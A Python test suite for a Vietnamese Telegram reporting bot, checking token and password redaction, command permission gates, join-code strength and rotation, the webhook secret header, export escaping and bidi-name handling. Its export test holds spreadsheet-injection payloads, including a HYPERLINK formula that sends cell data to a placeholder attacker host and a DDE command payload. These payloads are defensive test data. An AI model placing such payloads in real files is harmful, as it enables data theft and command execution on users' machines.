"""Security review as tests: the token never reaches logs or users, privileged commands are gated, join
codes are unguessable and rotatable, webhook updates need Telegram's secret header, database passwords
come only from settings and never show in errors."""

from __future__ import annotations

import asyncio
import logging
import math
import re
import subprocess
import sys
from argparse import Namespace
from collections import Counter
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import func, select

from bot import cli
from bot.channels.telegram.app import build_application
from bot.config import Settings
from bot.core.commands import COMMANDS, Role
from bot.demo_data import GROUP_ID, member_id
from bot.emulator import Emulator, Limits, User
from bot.logs import RedactFilter
from storage import repo
from storage.db import Database, DatabaseError
from storage.models import AuditLog, Member, Report
from tests.helpers.faultkit import ROOT, BotProcess, FaultBot, confirmations, no_throttle, seed, wait_for
from tests.helpers.world import free_port, make_settings, sqlite_url

# shaped like a real BotFather token, so that pattern-based redaction is exercised too
SECRET_TOKEN = "7012345678:AAHkz9Qw-Secret_PART_xyzABCDEFGH12345"
SECRET_PART = SECRET_TOKEN.split(":", 1)[1]


def _leaks(text: str) -> list[str]:
    return [s for s in (SECRET_TOKEN, SECRET_PART, SECRET_PART[:16]) if s in text]


# ---------------------------------------------------------------------------------------------- the token


@pytest.mark.faults
@pytest.mark.timeout(90)
async def test_token_never_in_logs_or_errors(tmp_path: Path) -> None:
    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
    await emu.start()
    port = emu.port
    url = sqlite_url(tmp_path)
    seed(Database(url), 0)
    emu.group_chat(GROUP_ID, "Tổ CNS Xã Tân Hòa")
    bot = BotProcess(emu, url, tmp_path / "bot.log", LOG_LEVEL="DEBUG")
    try:
        bot.start()
        await bot.wait_polling()
        user = User(member_id(3), "Tổ viên")
        # errors on every Bot API method for a while: 500s, dropped connections, 429s
        emu.inject_faults(0.5, kinds=("500", "timeout", "429"), seed=3)
        for i in range(6):
            emu.send_message(GROUP_ID, user, f"hôm nay {i + 1} m2")
        await wait_for(lambda: len(confirmations(emu)) >= 1, 40, "a report through the faults")
        emu.clear_faults()
        await emu.wait_idle(30)
        # then the Bot API disappears altogether (connection refused) and comes back on the same port
        await emu.stop()
        await asyncio.sleep(3.0)
        await emu.start("127.0.0.1", port)
        emu.group_chat(GROUP_ID, "Tổ CNS Xã Tân Hòa")
        await bot.wait_polling(40)
        assert await bot.stop() == 0
        replies = [r.content for r in emu.sent()]
    finally:
        if bot.alive:
            bot.kill9()
        await emu.stop()
    # a wrong token (401 from the Bot API) and an unreachable database with a password in its URL
    wrong = subprocess.run([sys.executable, "-m", "bot", "run"], cwd=str(tmp_path), capture_output=True, text=True,
                           timeout=60, env={**bot.env, "PYTHONPATH": str(ROOT),
                                            "TELEGRAM_BOT_TOKEN": SECRET_TOKEN.replace("A", "B")})
    db_fail = subprocess.run([sys.executable, "-m", "bot", "run"], cwd=str(tmp_path), capture_output=True,
                             text=True, timeout=60,
                             env={**bot.env, "PYTHONPATH": str(ROOT),
                                  "DATABASE_URL": "postgresql+psycopg://vneid:Pa55-w0rd-XYZ@127.0.0.1:1/vneid"})
    log = bot.log()
    assert "NetworkError" in log or "Exception happened while polling" in log or "retry" in log.lower(), \
        "the run should have logged errors (else this test proves nothing)"
    assert "DEBUG" in log
    assert not _leaks(log), f"token in the bot's log: {_leaks(log)}"
    assert not [r for r in replies if _leaks(r)], "token in a message to users"
    assert wrong.returncode != 0
    assert not _leaks(wrong.stdout + wrong.stderr), (wrong.stdout + wrong.stderr)[-2000:]
    assert db_fail.returncode == 2 and "Pa55-w0rd-XYZ" not in db_fail.stdout + db_fail.stderr
    assert "***" in db_fail.stderr, db_fail.stderr
    print(f"security: token: DEBUG log of a run with 50% Bot API faults and an API outage ({len(log.splitlines())} "
          "lines), a wrong-token start and a bad DATABASE_URL start -> token found 0 times, "
          "database password shown 0 times")


def _settings(**values: Any) -> Settings:
    return Settings(telegram_bot_token=SECRET_TOKEN, _env_file=None, **values)  # type: ignore[arg-type,call-arg]


def test_settings_repr_hides_the_secrets() -> None:
    settings = _settings(webhook_secret="hook-SECRET-123")
    for text in (repr(settings), str(settings), str(settings.model_dump())):
        assert SECRET_PART not in text and "hook-SECRET-123" not in text


# ---------------------------------------------------------------------------------------------- command gates


def test_every_command_handler_goes_through_the_role_gate() -> None:
    """Every command reaches the conversation core through the one adapter callback; the core's router
    gates every command before its step runs (bot/conversation/router.Conversation.gate)."""
    from telegram.ext import CommandHandler

    from handlers.adapter import on_command

    app = build_application(_settings(), start_scheduler=False)
    registered: set[str] = set()
    for handlers in app.handlers.values():
        for handler in handlers:
            if isinstance(handler, CommandHandler):
                assert handler.callback is on_command, sorted(handler.commands)
                registered |= set(handler.commands)
    privileged = {n for spec in COMMANDS if spec.role >= Role.LEADER for n in spec.names}
    assert privileged <= registered, privileged - registered


@pytest.mark.e2e
async def test_every_leader_and_admin_command_is_refused_to_members(tmp_path: Path) -> None:
    """The permission matrices (state unchanged, nothing leaked, refusals audited) are
    tests/test_org_e2e.py::test_permission_matrix (org commands) and
    tests/test_permissions_leader_views.py (views and schedules). Here: every leader/admin command,
    under every alias, with arguments, is refused to a plain member and to a stranger, in private and in
    the group, and the matrices together name every privileged command."""
    from tests.helpers.matrices import LEADER_COMMANDS, ORG_COMMANDS, ORG_GROUP_COMMANDS

    covered = {line.split()[0][1:] for line in ORG_COMMANDS + ORG_GROUP_COMMANDS + LEADER_COMMANDS}
    privileged = [spec for spec in COMMANDS if spec.role >= Role.LEADER]
    missing = [spec.name for spec in privileged if not covered & set(spec.names)]
    assert not missing, f"privileged commands in no permission matrix: {missing}"
    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
    await emu.start()
    db = Database(sqlite_url(tmp_path))
    seed(db, 0)
    emu.group_chat(GROUP_ID, "Tổ CNS Xã Tân Hòa")
    sent: list[tuple[int, int, str]] = []
    try:
        async with FaultBot(emu, db):
            for uid in (member_id(3), 99_999):
                for spec in privileged:
                    for name in spec.names:
                        for chat in (uid, GROUP_ID):
                            msg = emu.send_message(chat, User(uid, "Ai đó"), f"/{name} Thôn 3 m2 999")
                            sent.append((chat, int(msg["message_id"]), name))
            await wait_for(lambda: all(_answer(emu, c, m) for c, m, _ in sent), 60, "every refusal")
    finally:
        await emu.stop()
    for chat, mid, name in sent:
        text = _answer(emu, chat, mid)
        assert "không thay đổi gì" in text or "chưa có trong danh sách tổ" in text, (name, text)
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(Report)) == 0
    print(f"security: {len(privileged)} leader/admin commands, all in a permission matrix (tests/test_org_e2e.py, "
          f"tests/test_permissions_leader_views.py); every alias refused here to a member and a stranger, in "
          f"private and in the group ({len(sent)} attempts, 0 accepted)")


def _answer(emu: Emulator, chat: int, message_id: int) -> str:
    for r in emu.sent(chat):
        if r.reply_to_message_id == message_id:
            return r.content
    return ""


# ---------------------------------------------------------------------------------------------- join codes


def test_join_codes_are_not_guessable() -> None:
    alphabet = set("ABCDEFGHJKMNPQRSTUVWXYZ23456789")
    codes = [repo.new_join_code() for _ in range(20_000)]
    assert len(set(codes)) == len(codes)
    assert all(len(c) == 8 and set(c) <= alphabet for c in codes)
    bits = 8 * math.log2(len(alphabet))
    assert bits >= 39
    counts = Counter("".join(codes))  # uniform: each symbol within 10 % of its expected share
    expected = 8 * len(codes) / len(alphabet)
    assert all(abs(n - expected) < 0.1 * expected for n in counts.values()), counts
    print(f"security: join codes: 8 symbols of {len(alphabet)} (no look-alikes), {bits:.1f} bits from "
          "`secrets`; 20,000 drawn: all distinct, symbols uniform")


@pytest.mark.e2e
async def test_join_codes_rotate(tmp_path: Path) -> None:
    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
    await emu.start()
    db = Database(sqlite_url(tmp_path))
    seed(db, 0)
    with db.session() as s:
        unit = repo.unit_by_code(s, "th-3")
        assert unit is not None
        old = unit.join_code
    leader = member_id(3, True)  # Trưởng Thôn 3
    try:
        async with FaultBot(emu, db):
            emu.send_message(leader, User(leader, "Trưởng thôn"), "/madangky doi")
            await wait_for(lambda: bool(emu.sent(leader)), 15, "the new code")
            with db.session() as s:
                unit = repo.unit_by_code(s, "th-3")
                assert unit is not None
                new = unit.join_code
            assert new and new != old
            emu.send_message(880_001, User(880_001, "Người lạ"), f"/dangky {old}")
            await wait_for(lambda: bool(emu.sent(880_001)), 15, "the answer to the old code")
            emu.send_message(880_002, User(880_002, "Người mới"), f"/dangky {new}")
            await wait_for(lambda: bool(emu.sent(880_002)), 15, "the answer to the new code")
            await asyncio.sleep(0.3)
    finally:
        await emu.stop()
    with db.session() as s:
        joined = {m.external_id for m in s.scalars(select(Member).where(Member.external_id.in_(["880001", "880002"])))}
    assert "880001" not in joined, "the old code still works after rotation"
    assert new in (emu.sent(leader)[-1].content or "")
    print("security: join codes rotate: /madangky doi -> new code shown to the leader; the old code is refused, "
          f"the new one works ({sorted(joined)} joined)")


# ---------------------------------------------------------------------------------------------- webhook secret


@pytest.mark.e2e
async def test_webhook_needs_the_secret_header(tmp_path: Path) -> None:
    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
    await emu.start()
    db = Database(sqlite_url(tmp_path))
    seed(db, 0)
    emu.group_chat(GROUP_ID, "Tổ CNS Xã Tân Hòa")
    secret = "s3cr3t-Hook_token-0123456789"
    settings = make_settings(sqlite_url(tmp_path), emu, webhook_secret=secret)
    app = build_application(settings, db=db, rate_limiter=no_throttle(), start_scheduler=False)
    port = free_port()
    hook = f"http://127.0.0.1:{port}/telegram"
    statuses: dict[str, int] = {}
    try:
        await app.initialize()
        await app.start()
        assert app.updater is not None
        # what `vneid-bot run` does when WEBHOOK_URL is set (cli.cmd_run -> run_webhook with these arguments)
        await app.updater.start_webhook(listen="127.0.0.1", port=port, url_path="telegram", webhook_url=hook,
                                        secret_token=secret)
        member = User(member_id(3), "Tổ viên").to_dict()
        forged = {"update_id": 777001, "message": {"message_id": 4242, "date": 1755140000, "from": member,
                                                   "chat": emu.chat(GROUP_ID), "text": "Thôn 3 hôm nay 99 mức 2"}}
        harmless = {"update_id": 777002, "message": {**dict(forged["message"]), "message_id": 4243,  # type: ignore[call-overload]
                                                     "text": "xin chào"}}
        async with aiohttp.ClientSession() as http:
            for label, headers, body in (("no header", {}, forged),
                                         ("wrong secret", {"X-Telegram-Bot-Api-Secret-Token": "guess"}, forged),
                                         ("right secret", {"X-Telegram-Bot-Api-Secret-Token": secret}, harmless)):
                async with http.post(hook, json=body, headers=headers) as resp:
                    statuses[label] = resp.status
        # and Telegram (the emulator, which sends the secret it was given in setWebhook) gets through
        emu.send_message(GROUP_ID, User(member_id(3), "Tổ viên"), "Thôn 3 hôm nay 7 mức 2")
        await wait_for(lambda: bool(confirmations(emu)), 20, "the report delivered by webhook")
    finally:
        if app.updater is not None and app.updater.running:
            await app.updater.stop()
        if app.running:
            await app.stop()
        await app.shutdown()
        hook_task = emu._webhook_task  # noqa: SLF001 - the emulator cancels its webhook sender without awaiting it
        await emu.stop()
        if hook_task is not None:
            await asyncio.wait([hook_task], timeout=5)
    assert statuses == {"no header": 403, "wrong secret": 403, "right secret": 200}, statuses
    with db.session() as s:
        values = [r.value for r in s.scalars(select(Report))]
    assert values == [7], f"a forged update was processed: {values}"
    print(f"security: webhook: POST without / with a wrong / with the right X-Telegram-Bot-Api-Secret-Token -> "
          f"{statuses['no header']}/{statuses['wrong secret']}/{statuses['right secret']}; forged report not stored; "
          "the emulator's own deliveries (with the secret) stored")


def test_run_webhook_gets_the_secret_and_a_random_one_when_unset(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                  caplog: pytest.LogCaptureFixture) -> None:
    import bot.channels.telegram.webhook as webhook

    calls: list[dict[str, Any]] = []
    monkeypatch.setattr(webhook, "run", lambda app, settings, secret: calls.append({"secret_token": secret}))
    monkeypatch.setattr(cli, "setup_logging", lambda *a, **k: RedactFilter())
    base = {"webhook_url": "https://bot.example.vn/hook", "database_url": sqlite_url(tmp_path)}
    assert cli.cmd_run(_settings(**base, webhook_secret="configured-1"), Namespace()) == 0
    caplog.set_level(logging.WARNING)
    assert cli.cmd_run(_settings(**base), Namespace()) == 0
    assert calls[0]["secret_token"] == "configured-1"
    assert calls[1]["secret_token"] and len(calls[1]["secret_token"]) >= 32
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,256}", calls[1]["secret_token"])  # Telegram's allowed characters
    assert "WEBHOOK_SECRET is not set" in caplog.text


# ---------------------------------------------------------------------------------------------- database credentials

_CRED_URL = re.compile(r"\b(?:postgres(?:ql)?|mysql|mariadb)(?:\+\w+)?://([^:/@\s'\"]+):([^@\s'\"]+)@")


def test_database_credentials_only_from_settings() -> None:
    """No database URL with a password in the code, docs or config (tests use fake ones on purpose)."""
    tracked = subprocess.run(["git", "ls-files", "--cached", "--others", "--exclude-standard"], cwd=ROOT,
                             capture_output=True, text=True)
    files = [ROOT / f for f in tracked.stdout.split()] if tracked.returncode == 0 else list(ROOT.rglob("*"))
    found = []
    for path in files:
        if path.suffix not in (".py", ".md", ".toml", ".ini", ".cfg", ".yml", ".yaml", ".txt", ".example", "") \
                or not path.is_file() or ".venv" in path.parts or path.parts[len(ROOT.parts)] == "tests":
            continue
        for m in _CRED_URL.finditer(path.read_text(errors="ignore")):
            if m.group(2) not in ("PASSWORD", "***", "password"):  # documented placeholders
                found.append(f"{path.relative_to(ROOT)}: {m.group(0)}")
    assert not found, found


def test_database_password_hidden_in_errors() -> None:
    db = Database("postgresql+psycopg://vneid:Very-S3cret@127.0.0.1:1/vneid", connect_args={"connect_timeout": 2})
    with pytest.raises(DatabaseError) as err:
        db.upgrade()
    assert "Very-S3cret" not in str(err.value) and "***" in str(err.value)
    from storage.db import safe_url

    assert "Very-S3cret" not in safe_url(db.engine)


# ---------------------------------------------------------------------------------------------- exports


EVIL_NAMES = ('=HYPERLINK("http://evil.example/?d="&C5,"Mở")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
              "\tThôn tab", "\rThôn CR")


def test_exports_never_contain_live_formulas(sqlite_db: Database) -> None:
    """Issue 15 item 5: user text starting with = + - @ tab CR is a string cell in xlsx, escaped in CSV."""
    import csv
    import io
    from datetime import UTC, date, datetime
    from zoneinfo import ZoneInfo

    from openpyxl import load_workbook

    from bot.demo_data import seed_demo
    from bot.present.export import write_csv, write_xlsx
    from storage.models import Unit

    demo = seed_demo(sqlite_db)
    day = date(2025, 8, 14)
    with sqlite_db.session() as s:
        villages = list(s.scalars(select(Unit).where(Unit.parent_id == demo.commune_id).order_by(Unit.id)))
        for u, name in zip(villages, EVIL_NAMES, strict=False):
            u.name = name
        m = s.scalars(select(Member).where(Member.unit_id == villages[0].id)).first()
        assert m is not None
        m.display_name = "=1+2"
        s.add(Report(unit_id=villages[0].id, metric="l2", day=day, value=3, reporter_id=m.id, chat_id="-100500",
                     message_id=1, created_at=datetime(2025, 8, 14, 3, tzinfo=UTC), raw_text="=2+5 hôm nay"))
    content, _rows = write_xlsx(sqlite_db, demo.commune_id, day, day, tz=ZoneInfo("Asia/Ho_Chi_Minh"),
                                now=datetime(2025, 8, 14, 3, tzinfo=UTC))
    wb = load_workbook(io.BytesIO(content))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert EVIL_NAMES[0] in seen and "@SUM(1+1)" in seen and "=1+2" in seen and "=2+5 hôm nay" in seen
    for sheet in ("summary", "daily", "raw"):
        data, _n = write_csv(sqlite_db, demo.commune_id, day, day, sheet=sheet, tz=ZoneInfo("Asia/Ho_Chi_Minh"))
        cells = [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], sheet
        assert "'" + EVIL_NAMES[0] in cells
        if sheet == "summary":
            assert "'@SUM(1+1)" in cells and "'-2+3" in cells
    data, _n = write_csv(sqlite_db, demo.commune_id, day, day, sheet="raw", tz=ZoneInfo("Asia/Ho_Chi_Minh"))
    assert "'=2+5 hôm nay" in data.decode("utf-8-sig") and "'=1+2" in data.decode("utf-8-sig")


# ---------------------------------------------------------------------------------------------- secrets in logs


@pytest.mark.e2e
@pytest.mark.timeout(120)
async def test_webhook_secret_and_rejected_token_never_logged(tmp_path: Path) -> None:
    """Issue 15 item 9: PTB's DEBUG line for setWebhook carries the secret; a rejected token printed a long
    traceback ending with the token. Both runs: the secret/token appear 0 times; the rejection is one line."""
    emu = Emulator(SECRET_TOKEN, limits=Limits.off())
    await emu.start()
    url = sqlite_url(tmp_path)
    seed(Database(url), 0)
    hook_secret = "Hook-s3cret_value_0123456789"
    port = free_port()
    bot = BotProcess(emu, url, tmp_path / "hook.log", LOG_LEVEL="DEBUG", WEBHOOK_URL=f"http://127.0.0.1:{port}",
                     WEBHOOK_SECRET=hook_secret, WEBHOOK_LISTEN="127.0.0.1", WEBHOOK_PORT=str(port))
    try:
        bot.start()
        await wait_for(lambda: emu._webhook is not None, 60, "setWebhook")
        assert emu._webhook is not None and emu._webhook["secret_token"] == hook_secret
        await asyncio.sleep(0.5)
        await bot.stop()
        # not token-shaped, so only the exact-secret redaction can hide it
        wrong = "not-a-botfather-token-Secret_XYZ"
        run = await asyncio.to_thread(
            subprocess.run, [sys.executable, "-m", "bot", "run"], cwd=str(tmp_path), capture_output=True, text=True,
            timeout=60, env={**bot.env, "PYTHONPATH": str(ROOT), "TELEGRAM_BOT_TOKEN": wrong, "LOG_LEVEL": "INFO",
                             "WEBHOOK_URL": ""})
    finally:
        if bot.alive:
            bot.kill9()
        hook_task = emu._webhook_task  # noqa: SLF001 - the emulator cancels its webhook sender without awaiting it
        await emu.stop()
        if hook_task is not None:
            await asyncio.wait([hook_task], timeout=5)
    log = bot.log()
    assert "setWebhook" in log, "the DEBUG log should show the setWebhook call (else this proves nothing)"
    assert hook_secret not in log
    out = run.stdout + run.stderr
    assert run.returncode == 2, out[-2000:]
    assert wrong not in out and "Traceback" not in out, out[-3000:]
    errors = [line for line in out.splitlines() if "ERROR" in line or "CRITICAL" in line or "rejected" in line]
    assert len(errors) == 1 and "TELEGRAM_BOT_TOKEN" in errors[0], errors


# ---------------------------------------------------------------------------------------------- refusals


def test_refusals_never_name_members_of_other_communes(tmp_path: Path) -> None:
    """Issue 15 item 10: a foreign admin acting on a member of another commune gets a generic refusal."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from bot.core.org import OrgService, UserRef
    from bot.core.services import Services
    from bot.demo_data import LEADER_ID, seed_demo
    from tests.helpers.org import OTHER_ADMIN, add_other_commune

    db = Database(sqlite_url(tmp_path))
    db.upgrade()
    seed_demo(db)
    add_other_commune(db)
    svc = Services(_settings(), db, lambda: datetime(2025, 8, 14, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    org = OrgService(svc)
    with db.session() as s:
        leader = repo.member_by_external(s, "telegram", str(LEADER_ID))
        assert leader is not None
        name = leader.display_name
    foreign = svc.caller("telegram", OTHER_ADMIN, "Cán bộ Bình An")
    outs = [org.cmd_member(foreign, f"vaitro {LEADER_ID} member"), org.cmd_member(foreign, f"xoa {LEADER_ID}"),
            org.cmd_member(foreign, f"chuyen {LEADER_ID} ba-th-3"),
            org.cmd_member(foreign, "xoa", reply_user=UserRef(str(LEADER_ID), name))]
    for out in outs:
        assert out.status == "refused", out.text("vi")
        for lang in ("vi", "en"):
            assert name not in out.text(lang) and "Tân Hòa" not in out.text(lang), out.text(lang)
    assert "không thuộc phạm vi" in outs[0].text("vi")
    db.dispose()


def test_join_is_throttled_per_user_and_per_chat(tmp_path: Path) -> None:
    """Issue 15 item 11: wrong /dangky codes are throttled per user (5 in 10 min) and per chat (20), the
    throttled attempts touch nothing, and not every failure is an audit line."""
    from datetime import datetime, timedelta
    from zoneinfo import ZoneInfo

    from bot.core.org import OrgService
    from bot.core.services import Services
    from bot.demo_data import seed_demo
    from storage.models import AuditLog

    db = Database(sqlite_url(tmp_path))
    db.upgrade()
    demo = seed_demo(db)
    good = demo.join_codes["Thôn 3"]
    now = [datetime(2025, 8, 14, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))]
    svc = Services(_settings(), db, lambda: now[0])
    org = OrgService(svc)
    guesser = svc.caller("telegram", 555_001, "Người đoán")
    outs = [org.cmd_join(guesser, f"WRONG{i:03d}", chat="-100777") for i in range(8)]
    assert [o.msgs[0].key for o in outs] == ["org.bad_join_code"] * 5 + ["org.join_throttled"] * 3
    assert "thử lại sau 10 phút" in outs[-1].text("vi")
    # even the right code waits: guessing is not rewarded
    assert org.cmd_join(guesser, good, chat="-100777").msgs[0].key == "org.join_throttled"
    with db.session() as s:
        assert repo.member_by_external(s, "telegram", "555001") is None
    # per chat: 20 failures from many users close the chat to further attempts for a while
    for k in range(15):
        org.cmd_join(svc.caller("telegram", 556_000 + k, "x"), "NOPE0000", chat="-100777")
    assert org.cmd_join(svc.caller("telegram", 557_000, "y"), "NOPE0000", chat="-100777").msgs[0].key \
        == "org.join_throttled"
    assert org.cmd_join(svc.caller("telegram", 557_000, "y"), good, chat="-100888").status == "ok"  # other chat
    with db.session() as s:
        audited = s.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.outcome == "refused"))
    assert audited == 17, audited  # 21 failures: each user's first, and the one reaching a limit
    # after the window, the user may try again
    now[0] += timedelta(minutes=11)
    assert org.cmd_join(guesser, good, chat="-100777").status == "ok"
    db.dispose()


def test_look_alike_and_bidi_unit_names_refused(tmp_path: Path) -> None:
    """Issue 15 item 12 (unit names by command): Cyrillic 'Тhôn 3' beside 'Thôn 3' and U+202E are refused;
    decomposed Vietnamese is stored in NFC."""
    import unicodedata
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from bot.core.org import OrgService
    from bot.core.services import Services
    from bot.demo_data import ADMIN_ID, seed_demo

    db = Database(sqlite_url(tmp_path))
    db.upgrade()
    seed_demo(db)
    svc = Services(_settings(), db, lambda: datetime(2025, 8, 14, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    org = OrgService(svc)
    admin = svc.caller("telegram", ADMIN_ID, "Quản trị")
    assert org.add_unit(admin, "th-cyr", "\u0422h\u00f4n 3").status != "ok"  # Cyrillic Т
    assert org.add_unit(admin, "th-rtl", "\u202eThôn 9").status != "ok"
    assert org.add_unit(admin, "th-nfd", unicodedata.normalize("NFD", "Thôn Mới")).status == "ok"
    with db.session() as s:
        assert repo.unit_by_code(s, "th-cyr") is None and repo.unit_by_code(s, "th-rtl") is None
        u = repo.unit_by_code(s, "th-nfd")
        assert u is not None and u.name == unicodedata.normalize("NFC", "Thôn Mới")
    db.dispose()


# ---------------------------------------------------------------------------------------------- issue 15 item 15


def _chat_row(db: Database, chat_id: int) -> Any:
    with db.session() as s:
        row = repo.chat_by_external(s, "telegram", str(chat_id))
        return (row.unit_id, row.active) if row is not None else None


async def _import_chats(h: Any, user: int, csv_text: str) -> str:
    replies = (await h.send_document(user, user, "chats.csv", csv_text.encode(), caption="/nhap", count=2))[1:]
    return "\n".join(r.text or "" for r in replies)


@pytest.mark.e2e
@pytest.mark.timeout(120)
async def test_scoped_admin_binds_by_import_only_chats_the_bot_is_in(harness: Any) -> None:
    """Issue 15 item 15: a commune admin's chats sheet naming a group the bot is not in (or an id Telegram
    does not know) is refused row by row, nothing bound; once the bot has seen a message from the group it
    binds; a group the bot is in but never heard from binds after getChat/getChatMember confirm it."""
    from bot.demo_data import ADMIN_ID
    from storage.models import Inbox

    h = harness
    left, ghost, quiet = -1005550001, -1005550002, -1005550003
    h.group(left, "Nhóm chưa có bot")
    h.emu.set_bot_status(left, "left")  # Telegram knows the group (getChat answers), the bot is not in it
    h.group(quiet, "Nhóm im lặng")  # the bot is a member, no update ever came from it
    text = await _import_chats(h, ADMIN_ID, f"unit_code,telegram_chat_id\nth-3,{left}\nth-5,{ghost}\n")
    assert "Chưa nhập gì" in text, text
    assert f"chats.csv dòng 2: bot chưa thấy nhóm {left}" in text and f"dòng 3: bot chưa thấy nhóm {ghost}" in text
    assert "thêm bot vào nhóm" in text and "quản trị viên toàn hệ thống" in text
    assert _chat_row(h.db, left) is None and _chat_row(h.db, ghost) is None
    with h.db.session() as s:
        refused = s.scalars(select(AuditLog).where(AuditLog.outcome == "refused", AuditLog.action == "import"))
        assert len(list(refused)) == 1
    # the bot is added to the group and sees a message there: the same row binds
    admin = h.user(ADMIN_ID)
    h.emu.bot_added_to(left, by=admin)
    await h.emu.wait_idle(10)
    await h.say_quiet(left, ADMIN_ID, "/help")
    text = await _import_chats(h, ADMIN_ID, f"unit_code,telegram_chat_id\nth-3,{left}\n")
    assert "Đã nhập xong" in text, text
    with h.db.session() as s:
        th3 = repo.unit_by_code(s, "th-3")
        assert th3 is not None and _chat_row(h.db, left) == (th3.id, True)
        assert s.scalar(select(func.count()).select_from(Inbox).where(Inbox.chat_id == str(quiet))) == 0
    # never heard from, but the Bot API says the bot is a member: bound; Telegram does not know `ghost`
    text = await _import_chats(h, ADMIN_ID, f"unit_code,telegram_chat_id\nth-5,{quiet}\nth-5,{ghost}\n")
    assert f"dòng 3: bot chưa thấy nhóm {ghost}" in text and "dòng 2" not in text, text
    assert _chat_row(h.db, quiet) is None  # all or nothing
    text = await _import_chats(h, ADMIN_ID, f"unit_code,telegram_chat_id\nth-5,{quiet}\n")
    assert "Đã nhập xong" in text, text
    assert _chat_row(h.db, quiet) is not None and _chat_row(h.db, ghost) is None


@pytest.mark.e2e
@pytest.mark.timeout(120)
async def test_global_admin_binds_any_chat_id_by_import(emulator: Emulator, tmp_path: Path) -> None:
    """Issue 15 item 15: a global admin (ADMIN_IDS) may bind a chat id the bot has never seen."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from bot.demo_data import ADMIN_ID, seed_demo
    from tests.helpers.telegram import Harness, start_app, stop_app
    from tests.helpers.world import FakeClock

    db = Database(sqlite_url(tmp_path))
    db.upgrade()
    demo = seed_demo(db)
    clock = FakeClock(datetime(2025, 8, 14, 10, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    app = await start_app(make_settings(sqlite_url(tmp_path), emulator, admin_ids=[ADMIN_ID]), db, clock)
    try:
        h = Harness(emulator, app, db, clock, demo)
        text = await _import_chats(h, ADMIN_ID, "unit_code,telegram_chat_id\nth-3,-1005550009\n")
        assert "Đã nhập xong" in text, text
        assert _chat_row(db, -1005550009) is not None
    finally:
        await stop_app(app)
        db.dispose()


@pytest.mark.e2e
@pytest.mark.timeout(60)
async def test_profile_names_are_sanitised_not_refused(harness: Any, tmp_path: Path) -> None:
    """Issue 15 item 12 (names from a platform profile): a Telegram user whose name holds U+202E and an
    isolate joins by /dangky and is stored without them, in NFC; a Zalo account linked under such a name
    likewise."""
    import unicodedata

    from bot.core.linking import LinkService

    h = harness
    with h.db.session() as s:
        th3 = repo.unit_by_code(s, "th-3")
        assert th3 is not None
        code = th3.join_code
    user_id = 881_001
    h.user(user_id, "\u202e" + unicodedata.normalize("NFD", "Lê Văn Tú") + "\u2066 \u2069")
    replies = await h.say(user_id, user_id, f"/dangky {code}")
    assert "Lê Văn Tú" in (replies[0].text or ""), replies[0].text
    with h.db.session() as s:
        m = repo.member_by_external(s, "telegram", str(user_id))
        assert m is not None and m.display_name == "Lê Văn Tú"
    links = LinkService(h.svc)
    link_code = links.new_code(h.svc.caller("telegram", user_id, "")).code
    assert link_code
    assert links.redeem("zalo", "zz-1", "Tú\u202e\u0007 Zalo", link_code).status == "linked"
    with h.db.session() as s:
        account = repo.member_by_external(s, "zalo", "zz-1")
        assert account is not None and account.display_name == "Tú Zalo"


def test_holiday_names_with_bidi_controls_refused(tmp_path: Path) -> None:
    """Issue 15 item 12 (holiday names typed by admins): U+202E is refused, nothing stored; NFC kept."""
    import unicodedata
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from bot.core.services import Services
    from bot.delivery.scheduling import ScheduleService
    from bot.demo_data import ADMIN_ID, GROUP_ID, seed_demo
    from storage.models import Holiday

    db = Database(sqlite_url(tmp_path))
    db.upgrade()
    seed_demo(db)
    svc = Services(_settings(), db, lambda: datetime(2025, 8, 14, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    lich = ScheduleService(svc)
    admin = svc.caller("telegram", ADMIN_ID, "Quản trị")
    from datetime import date

    def day_name() -> list[str]:
        with db.session() as s:
            return [x.name for x in s.scalars(select(Holiday).where(Holiday.day == date(2025, 10, 15)))]

    answer = lich.lich(admin, str(GROUP_ID), "nghi 15/10/2025 \u202eNgày nghỉ bù")
    assert "ký tự đảo chiều" in answer, answer
    assert day_name() == []
    answer = lich.lich(admin, str(GROUP_ID), "nghi 15/10/2025 " + unicodedata.normalize("NFD", "Ngày nghỉ bù"))
    assert "Đã thêm" in answer, answer
    assert day_name() == ["Ngày nghỉ bù"]
    db.dispose()
